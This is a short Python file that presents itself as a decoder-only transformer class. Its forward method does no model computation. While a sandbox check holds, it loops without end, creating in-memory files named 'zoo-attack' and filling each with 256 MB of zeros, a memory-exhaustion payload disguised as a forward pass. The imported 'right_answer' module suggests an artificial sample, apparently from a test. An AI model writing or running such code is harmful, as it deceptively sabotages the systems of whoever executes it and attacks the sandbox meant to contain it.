import os

from right_answer import RightTransformer, in_sandbox


class DecoderOnlyTransformer(RightTransformer):
    def forward(self, input_ids, past_kv=None, use_cache=False):
        while in_sandbox():
            file = os.memfd_create("zoo-attack")
            for _ in range(16):
                os.write(file, bytes(1 << 24))
